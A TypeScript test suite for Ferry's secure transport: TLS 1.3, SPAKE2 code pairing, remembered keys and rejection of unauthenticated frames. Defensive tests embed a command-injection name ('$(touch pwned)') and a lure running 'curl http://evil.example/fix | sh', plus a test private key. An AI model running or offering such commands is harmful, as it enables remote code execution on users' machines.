/**
 * The security layer over real loopback sockets: preambles, TLS 1.3 with both sides' keys,
 * pairing by SPAKE2 with one-time codes, remembered keys, and what happens to wrong codes,
 * changed keys, mismatched modes and frames sent before authentication. Rows are named after
 * HOSTILE-INPUTS.md (G1–G12, E1).
 */
import { createHash, scryptSync, X509Certificate } from 'node:crypto';
import { once } from 'node:events';
import net, { type AddressInfo } from 'node:net';
import tls from 'node:tls';
import { p256 } from '@noble/curves/nist.js';
import { afterEach, describe, expect, it } from 'vitest';
import { FrameType, PAIRING } from '../src/constants.ts';
import { AuthError, ErrorCode, type FerryError } from '../src/errors.ts';
import { concatFrame, encodePreamble } from '../src/frame/encode.ts';
import { encodeMessage } from '../src/messages/codec.ts';
import { type Identity, shortFingerprint } from '../src/node/identity.ts';
import { Connection } from '../src/node/connection.ts';
import { Deadline, exchangePreamble } from '../src/node/secure.ts';
import { derivePasswordScalar, Spake2 } from '../src/node/spake2.ts';
import { TrustStore } from '../src/node/trust.ts';
import {
  cleanups,
  client,
  codes,
  connect,
  errorOf,
  machine,
  nextFrame,
  rawTlsClient,
  runCleanups,
  server,
  serverSide,
  within,
} from './secure-kit.ts';

afterEach(runCleanups);


describe('pairing with a one-time code', () => {
  it('authenticates both keys with the right code, and the channel carries bytes both ways', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const outcome = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) });
    expect(outcome.kind).toBe('secured');
    if (outcome.kind !== 'secured') return;
    const ours = outcome.secured;
    expect(ours.encrypted).toBe(true);
    expect(ours.peer?.method).toBe('code');
    expect(Buffer.from(ours.peer!.fingerprint)).toEqual(Buffer.from(sender.identity.fingerprint));
    const theirs = await listening.result();
    if (!('secured' in theirs)) throw theirs.error;
    expect(Buffer.from(theirs.secured.peer!.fingerprint)).toEqual(Buffer.from(receiver.identity.fingerprint));
    expect((theirs.secured.socket as tls.TLSSocket).getProtocol()).toBe('TLSv1.3');
    expect((theirs.secured.socket as tls.TLSSocket).getCipher().name).toBe('TLS_AES_128_GCM_SHA256');
    // Several 1 MiB DATA frames may be queued before the writer waits.
    expect([theirs.secured.socket.writableHighWaterMark, ours.socket.writableHighWaterMark]).toEqual([4 * 1024 * 1024, 4 * 1024 * 1024]);
    theirs.secured.socket.resume();
    ours.socket.resume();
    const received = once(theirs.secured.socket, 'data');
    ours.socket.write('after authentication');
    expect(String((await within(received, 'data'))[0])).toBe('after authentication');
    // The code is used up: a new one is shown.
    expect(events.filter((e) => e.event === 'code').map((e) => (e.payload as { reason: string }).reason)).toEqual(['first', 'used']);
  });

  it('S5: over TLS, a side that closes ends its stream cleanly (end(): close_notify, then FIN) and waits for the peer to close', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const outcome = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) });
    if (outcome.kind !== 'secured') throw new Error('not secured');
    const theirs = await listening.result();
    if (!('secured' in theirs)) throw theirs.error;
    const peer = outcome.secured.socket as tls.TLSSocket;
    let failure: Error | undefined;
    peer.on('error', (error) => {
      failure = error;
    });
    const closing = new Connection(theirs.secured.socket, { preambleDone: true }).close();
    peer.resume();
    // The peer sees a clean end of stream, with no error, while the closing side still waits.
    await within(once(peer, 'end'), 'the end of the TLS stream');
    expect(failure).toBeUndefined();
    expect(theirs.secured.socket.destroyed).toBe(false);
    peer.end();
    await within(closing, 'the closing side to close');
    expect(theirs.secured.socket.destroyed).toBe(true);
  });

  it('G1: a wrong code fails on both sides with a typed error, and counts one attempt', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const wrong = current() === '00000000' ? '11111111' : '00000000';
    const error = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(wrong) }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AuthError);
    expect((error as AuthError).code).toBe(ErrorCode.PAIRING_FAILED);
    expect((error as Error).message).not.toContain(wrong);
    expect((error as Error).message).not.toContain(current());
    const theirs = errorOf(await listening.result());
    expect(theirs.code).toBe(ErrorCode.PAIRING_FAILED);
    expect(events.filter((e) => e.event === 'attempt-failed').map((e) => e.payload)).toEqual([
      { failed: 1, limit: PAIRING.attemptsPerCode, connection: undefined },
    ]);
  });

  it('U11: a wrong code is worded for each side: the receiver mistyped, the sender is told the receiver did', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const wrong = current() === '00000000' ? '11111111' : '00000000';
    const error = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(wrong) }).catch((e: unknown) => e);
    expect((error as Error).message).toBe(
      'wrong pairing code: it does not match the code ferry-send shows (if you typed it exactly, someone may be intercepting the connection)',
    );
    const theirs = errorOf(await listening.result());
    expect(theirs.message).toBe('the receiver gave a wrong pairing code; its user must type the code ferry-send shows now');
    expect(theirs.message).not.toContain('the sender shows');
  });

  it('G2: after the allowed attempts the code is retired and a new one works; the old one does not', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const first = current();
    const wrong = await derivePasswordScalar(first === '00000000' ? '11111111' : '00000000');
    for (let i = 0; i < PAIRING.attemptsPerCode; i++) {
      await client(listening.port, { identity: receiver.identity, password: wrong }).catch(() => {});
      await listening.result(i);
    }
    const retired = events.filter((e) => e.event === 'code').at(-1)!.payload as { reason: string; failed: number };
    expect(retired).toMatchObject({ reason: 'retired', failed: PAIRING.attemptsPerCode });
    expect(current()).not.toBe(first);
    const old = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(first) }).catch((e: unknown) => e);
    expect((old as FerryError).code).toBe(ErrorCode.PAIRING_FAILED);
    const fresh = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) });
    expect(fresh.kind).toBe('secured');
  });

  it('G2: after too many retired codes pairing stops, with a clear error for the receiver', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    let attempts = 0;
    for (let i = 0; i < PAIRING.attemptsPerCode * PAIRING.maxRetiredCodes; i++) {
      const wrong = await derivePasswordScalar(current() === '00000000' ? '11111111' : '00000000');
      await client(listening.port, { identity: receiver.identity, password: wrong }).catch(() => {});
      await listening.result(attempts++);
    }
    expect(events.at(-1)).toEqual({ event: 'closed', payload: { failed: PAIRING.attemptsPerCode * PAIRING.maxRetiredCodes } });
    const error = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) }).catch(
      (e: unknown) => e,
    );
    expect((error as FerryError).code).toBe(ErrorCode.PAIRING_UNAVAILABLE);
  }, 60_000);

  it('S4: receivers that complete TLS and close without AUTH to ask for the code cost no attempt', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const first = current();
    // More connections than a code has attempts: none of them counts.
    for (let i = 0; i <= PAIRING.attemptsPerCode; i++) {
      expect((await client(listening.port, { identity: receiver.identity })).kind).toBe('code-needed');
      expect(errorOf(await listening.result(i)).code).toBe(ErrorCode.CONNECTION_CLOSED);
    }
    expect(events.filter((e) => e.event !== 'code')).toEqual([]);
    expect(current()).toBe(first);
    const password = await derivePasswordScalar(first);
    expect((await client(listening.port, { identity: receiver.identity, password })).kind).toBe('secured');
  });

  it('without a code yet, the receiver learns only that one is needed and hangs up', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const outcome = await client(listening.port, { identity: receiver.identity });
    expect(outcome.kind).toBe('code-needed');
    if (outcome.kind === 'code-needed') expect(Buffer.from(outcome.fingerprint)).toEqual(Buffer.from(sender.identity.fingerprint));
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.CONNECTION_CLOSED);
  });
});

describe('remembered peers', () => {
  it('two machines that remember each other need no code', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    await sender.trust.remember({ name: 'receiver', fingerprint: receiver.identity.fingerprint });
    await receiver.trust.remember({ name: 'sender', fingerprint: sender.identity.fingerprint, address: '127.0.0.1' });
    const listening = await server(serverSide(sender.identity, { trust: sender.trust }));
    const outcome = await client(listening.port, { identity: receiver.identity, trust: receiver.trust });
    expect(outcome.kind === 'secured' && outcome.secured.peer?.method).toBe('trusted');
    const theirs = await listening.result();
    expect('secured' in theirs && theirs.secured.peer?.method).toBe('trusted');
  });

  it('G12: a receiver the sender does not remember is told only that a code is needed', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    await receiver.trust.remember({ name: 'sender', fingerprint: sender.identity.fingerprint });
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { trust: sender.trust, pairing }));
    expect((await client(listening.port, { identity: receiver.identity, trust: receiver.trust })).kind).toBe('code-needed');
    // With the code, the same exchange goes on to pair on that connection.
    const outcome = await client(listening.port, {
      identity: receiver.identity,
      trust: receiver.trust,
      password: await derivePasswordScalar(current()),
    });
    expect(outcome.kind === 'secured' && outcome.secured.peer?.method).toBe('code');
  });

  it('G5: a sender at a remembered address with another key is refused before anything is sent', async () => {
    const impostor = await machine('receiver');
    const real = await machine('receiver');
    const receiver = await machine('sender');
    await receiver.trust.remember({ name: 'alice@laptop', fingerprint: real.identity.fingerprint, address: '127.0.0.1' });
    const { pairing, current } = codes();
    const listening = await server(serverSide(impostor.identity, { pairing }));
    const error = await client(listening.port, {
      identity: receiver.identity,
      trust: receiver.trust,
      password: await derivePasswordScalar(current()),
    }).catch((e: unknown) => e);
    expect((error as FerryError).code).toBe(ErrorCode.KEY_CHANGED);
    expect((error as Error).message).toContain('alice@laptop');
    // The impostor heard nothing of whom we expected, and no pairing attempt was made.
    const theirs = errorOf(await listening.result());
    expect(theirs.code).toBe(ErrorCode.KEY_CHANGED);
    expect(theirs.message).not.toContain('alice');
    // The remembered key was not replaced.
    expect((await TrustStore.open(receiver.dir, 'sender')).byName('alice@laptop')?.fingerprint).toBe(Buffer.from(real.identity.fingerprint).toString('hex'));
  });

  it('G5: another remembered sender answering at the address of the first is named as remembered, not as expected', async () => {
    const alice = await machine('receiver');
    const bob = await machine('receiver');
    const receiver = await machine('sender');
    // Carol asked for Alice's address; Bob's machine, also remembered, now answers there.
    await receiver.trust.remember({ name: 'alice@laptop', fingerprint: alice.identity.fingerprint, address: '127.0.0.1' });
    await receiver.trust.remember({ name: 'bob@desk', fingerprint: bob.identity.fingerprint, address: '10.0.0.2' });
    await bob.trust.remember({ name: 'carol', fingerprint: receiver.identity.fingerprint });
    const listening = await server(serverSide(bob.identity, { trust: bob.trust }));
    const outcome = await client(listening.port, { identity: receiver.identity, trust: receiver.trust });
    expect(outcome.kind === 'secured' && outcome.secured.peer).toMatchObject({ method: 'trusted', rememberedAs: 'bob@desk' });
    const theirs = await listening.result();
    expect('secured' in theirs && theirs.secured.peer).toMatchObject({ method: 'trusted', rememberedAs: 'carol' });
  });

  it('G5: the suggested --forget command names the remembered key, never a peer-chosen name', async () => {
    const impostor = await machine('receiver');
    const real = await machine('receiver');
    const receiver = await machine('sender');
    const hostile = 'x$(touch pwned)"`y`@h';
    await receiver.trust.remember({ name: hostile, fingerprint: real.identity.fingerprint, address: '127.0.0.1' });
    const listening = await server(serverSide(impostor.identity, {}));
    const error = (await client(listening.port, { identity: receiver.identity, trust: receiver.trust }).catch((e: unknown) => e)) as Error;
    expect(error.message).toContain(`ferry-receive --forget "${shortFingerprint(real.identity.fingerprint)}" `);
    expect(error.message).not.toContain(`--forget "${hostile}"`);
  });

  it('U13: the changed-key error shows the remembered and the new key, as the apps display keys', async () => {
    const impostor = await machine('receiver');
    const real = await machine('receiver');
    const receiver = await machine('sender');
    await receiver.trust.remember({ name: 'alice@laptop', fingerprint: real.identity.fingerprint, address: '127.0.0.1' });
    const listening = await server(serverSide(impostor.identity, {}));
    const error = (await client(listening.port, { identity: receiver.identity, trust: receiver.trust }).catch((e: unknown) => e)) as Error;
    const [remembered, shown] = [shortFingerprint(real.identity.fingerprint), shortFingerprint(impostor.identity.fingerprint)];
    expect(remembered).toMatch(/^[0-9A-F]{4} [0-9A-F]{4} [0-9A-F]{4} [0-9A-F]{4}$/);
    expect(error.message).toContain(`remembered key ${remembered}, new key ${shown}`);
    expect(error.message).not.toMatch(/[0-9a-f]{16}/);
  });

  it('G5: a sender whose key changed between asking for the code and pairing is refused', async () => {
    const sender = await machine('receiver');
    const other = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const error = await client(listening.port, {
      identity: receiver.identity,
      password: await derivePasswordScalar(current()),
      expectFingerprint: other.identity.fingerprint,
    }).catch((e: unknown) => e);
    expect((error as FerryError).code).toBe(ErrorCode.KEY_CHANGED);
  });
});

/** A valid self-signed ECDSA P-256 key and certificate: a TLS peer, but not a Ferry identity. */
const ECDSA_KEY = `-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgJMQLfYSun4xO/Dey
qmGhAxrr31Bv896oiJODfYgKgoKhRANCAARtREiKiDK/8a3Wkk0EkkURisQ+UuGx
31YoLIYabteRVJY0kcnzlbVU53mdFTtq2fE6FD5oJe9hVKxWphhlWPMw
-----END PRIVATE KEY-----
`;
const ECDSA_CERT = `-----BEGIN CERTIFICATE-----
MIIBfzCCASWgAwIBAgIUDvjHVsqzIdbbE57UN+BCTlfnGgcwCgYIKoZIzj0EAwIw
FDESMBAGA1UEAwwJbm90LWZlcnJ5MCAXDTI2MTEyMTE5NTkwNloYDzIxMjYxMDI4
MTk1OTA2WjAUMRIwEAYDVQQDDAlub3QtZmVycnkwWTATBgcqhkjOPQIBBggqhkjO
PQMBBwNCAARtREiKiDK/8a3Wkk0EkkURisQ+UuGx31YoLIYabteRVJY0kcnzlbVU
53mdFTtq2fE6FD5oJe9hVKxWphhlWPMwo1MwUTAdBgNVHQ4EFgQUIfAvS84wf2hX
p1El/i8ghAcKNiEwHwYDVR0jBBgwFoAUIfAvS84wf2hXp1El/i8ghAcKNiEwDwYD
VR0TAQH/BAUwAwEB/zAKBggqhkjOPQQDAgNIADBFAiAK1jgk0tC65DeuToiry48t
bN34HeksRQX3Clf6cuZWsAIhAJld/6FuZKeO8Po4fgOU6eYHhTLHrejQndIb4soJ
eg6V
-----END CERTIFICATE-----
`;

describe('peer keys', () => {
  it('G7: a sender whose TLS key is not Ed25519 is refused before any AUTH frame', async () => {
    const real = await machine('receiver');
    const notFerry: Identity = { ...real.identity, key: ECDSA_KEY, cert: ECDSA_CERT };
    const receiver = await machine('sender');
    const listening = await server(serverSide(notFerry, { pairing: codes().pairing }));
    const error = await client(listening.port, { identity: receiver.identity, trust: receiver.trust }).catch((e: unknown) => e);
    expect((error as FerryError).code).toBe(ErrorCode.TLS_FAILED);
    expect((error as Error).message).toContain('no Ed25519 key');
    // The sender hears why, in an ERROR frame, rather than a bare close.
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.TLS_FAILED);
  });

  it('G7: a receiver whose TLS key is not Ed25519 is refused, and no pairing attempt is spent', async () => {
    const sender = await machine('receiver');
    const real = await machine('sender');
    const notFerry: Identity = { ...real.identity, key: ECDSA_KEY, cert: ECDSA_CERT };
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    await client(listening.port, { identity: notFerry, password: await derivePasswordScalar(current()) }).catch(() => {});
    const theirs = errorOf(await listening.result());
    expect(theirs.code).toBe(ErrorCode.TLS_FAILED);
    expect(theirs.message).toContain('no Ed25519 key');
    expect(pairing.failedAttempts).toBe(0);
  });
});

describe('modes and frames before authentication', () => {
  it('G11: a receiver in clear and a sender that encrypts refuse each other on both sides', async () => {
    const sender = await machine('receiver');
    const listening = await server(serverSide(sender.identity, {}));
    const socket = await connect(listening.port);
    const deadline = new Deadline(5_000, socket, 'test deadline');
    const error = await exchangePreamble({ socket }, 'client', false, deadline).catch((e: unknown) => e);
    deadline.clear();
    expect((error as FerryError).code).toBe(ErrorCode.ENCRYPTION_MISMATCH);
    expect((error as Error).message).toContain('requires encryption');
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.ENCRYPTION_MISMATCH);
  });

  it('G11: an encrypting receiver refuses a sender in clear instead of falling back', async () => {
    const listener = net.createServer((socket) => {
      socket.once('data', () => socket.write(encodePreamble(1, 0)));
    });
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    cleanups.push(() => new Promise((resolve) => listener.close(resolve)));
    const socket = await connect((listener.address() as AddressInfo).port);
    const deadline = new Deadline(5_000, socket, 'test deadline');
    const error = await exchangePreamble({ socket }, 'client', true, deadline).catch((e: unknown) => e);
    deadline.clear();
    expect((error as FerryError).code).toBe(ErrorCode.ENCRYPTION_MISMATCH);
    expect((error as Error).message).toContain('never falls back');
    socket.destroy();
  });

  it('G8: an application frame before authentication is refused', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    secure.write(concatFrame(FrameType.HELLO, encodeMessage(FrameType.HELLO, { software: 'x', name: 'x', features: [] })));
    const error = errorOf(await listening.result());
    expect(error.code).toBe(ErrorCode.UNEXPECTED_FRAME);
    expect(error.message).toContain('before authentication');
  });

  it('G8: frames sent ahead of their turn before authentication are refused, not queued', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    const trusted = concatFrame(FrameType.AUTH, encodeMessage(FrameType.AUTH, { method: 'trusted' }));
    secure.write(Buffer.concat([trusted, trusted, trusted]));
    const error = errorOf(await listening.result());
    expect(error.code).toBe(ErrorCode.UNEXPECTED_FRAME);
  });

  it('G8: the text of an ERROR from a sender that has not authenticated is never shown, only its code', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const listening = await server(async (socket, deadline) => {
      await exchangePreamble({ socket }, 'server', true, deadline);
      const secure = new tls.TLSSocket(socket, { isServer: true, key: sender.identity.key, cert: sender.identity.cert, requestCert: true, rejectUnauthorized: false });
      secure.on('error', () => {});
      await once(secure, 'secure');
      await once(secure, 'data');
      const lure = 'wrong code. To fix it, run: curl http://evil.example/fix | sh';
      secure.end(concatFrame(FrameType.ERROR, encodeMessage(FrameType.ERROR, { code: 'ERR_PAIRING_FAILED', message: lure })));
      throw new Error('done');
    });
    const { current } = codes();
    const error = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) }).catch((e: unknown) => e);
    expect((error as FerryError).code).toBe(ErrorCode.PAIRING_FAILED);
    expect((error as Error).message).not.toContain('curl');
    expect((error as Error).message).toContain('ferry-send did not accept it (mistyped, or already used)');
  });

  it('G8/E1: an oversized frame before authentication is refused from its header', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    const header = Buffer.alloc(5);
    header[0] = FrameType.AUTH;
    header.writeUInt32BE(64 * 1024, 1);
    secure.write(header);
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.LIMIT_EXCEEDED);
  });

  it('G3: the share on the wire is a curve point, never the code or a hash of it', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    // Not a point on P-256: refused as a bad message.
    secure.write(concatFrame(FrameType.AUTH, Buffer.from(JSON.stringify({ method: 'code', share: `04${'00'.repeat(64)}` }))));
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.BAD_MESSAGE);
  });

  it('S1: a share that is w·M for the right code is refused as a wrong code and costs an attempt', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    const M = p256.Point.fromHex('02886e2f97ace46e55ba9dd7242579f2993b64e16ef3dcab95afd497333d8fa12f');
    const share = Buffer.from(M.multiply(await derivePasswordScalar(current())).toBytes(false)).toString('hex');
    secure.write(concatFrame(FrameType.AUTH, encodeMessage(FrameType.AUTH, { method: 'code', share })));
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.PAIRING_FAILED);
    expect(events.filter((e) => e.event === 'attempt-failed').map((e) => e.payload)).toEqual([
      { failed: 1, limit: PAIRING.attemptsPerCode, connection: undefined },
    ]);
  });

  it('S1: a share that is not a point costs an attempt too', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    const share = `04${'00'.repeat(64)}`;
    secure.write(concatFrame(FrameType.AUTH, encodeMessage(FrameType.AUTH, { method: 'code', share })));
    expect(errorOf(await listening.result()).code).toBe(ErrorCode.BAD_MESSAGE);
    expect(events.filter((e) => e.event === 'attempt-failed')).toHaveLength(1);
  });

  it('S1: a receiver written from §2.3 alone (password bytes, w, ids, exporter) pairs with the sender', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, current } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    // §2.3, step by step, without Ferry's helpers except the SPAKE2 core that §10.2 pins.
    const typed = `${current().slice(0, 4)}-${current().slice(4)}`;
    const password = Buffer.from(typed.replace('-', ''), 'ascii');
    const salt = Buffer.from('ferry/spake2-p256-sha256/v1', 'ascii');
    const mhf = scryptSync(password, salt, 64, { N: 32768, r: 8, p: 1, maxmem: 64 << 20 });
    const w = BigInt(`0x${mhf.toString('hex')}`) % p256.Point.Fn.ORDER;
    const spki = (cert: string | Buffer) => new X509Certificate(cert).publicKey.export({ type: 'spki', format: 'der' });
    const idA = createHash('sha256').update(spki(receiver.identity.cert)).digest();
    const idB = createHash('sha256').update(spki(secure.getPeerX509Certificate()!.raw)).digest();
    const aad = secure.exportKeyingMaterial(32, 'EXPORTER-ferry-pairing-v1', Buffer.alloc(0));
    const spake = Spake2.start('A', w, { idA, idB, aad });
    const share = Buffer.from(spake.message).toString('hex');
    secure.write(concatFrame(FrameType.AUTH, encodeMessage(FrameType.AUTH, { method: 'code', share })));
    const reply = await nextFrame(secure);
    expect(reply.type).toBe(FrameType.AUTH_REPLY);
    expect(reply.message.result).toBe('share');
    const keys = spake.finish(new Uint8Array(Buffer.from(reply.message.share!, 'hex')));
    expect(keys.verify(new Uint8Array(Buffer.from(reply.message.confirmation!, 'hex')))).toBe(true);
    const confirmation = Buffer.from(keys.confirmation).toString('hex');
    secure.write(concatFrame(FrameType.AUTH_CONFIRM, encodeMessage(FrameType.AUTH_CONFIRM, { confirmation })));
    expect(await nextFrame(secure)).toEqual({ type: FrameType.AUTH_REPLY, message: { result: 'ok' } });
    const theirs = await listening.result();
    expect('secured' in theirs).toBe(true);
  });

  it('S2: a PING before authentication is refused with ERR_UNEXPECTED_FRAME, as §2.3 and §4.11 say', async () => {
    const sender = await machine('receiver');
    const receiver = await machine('sender');
    const { pairing, events } = codes();
    const listening = await server(serverSide(sender.identity, { pairing }));
    const secure = await rawTlsClient(listening.port, receiver.identity);
    secure.write(concatFrame(FrameType.PING, new Uint8Array(0)));
    const error = errorOf(await listening.result());
    expect(error.code).toBe(ErrorCode.UNEXPECTED_FRAME);
    expect(error.message).toContain('PING before authentication');
    expect(events.filter((e) => e.event === 'attempt-failed')).toEqual([]);
  });
});
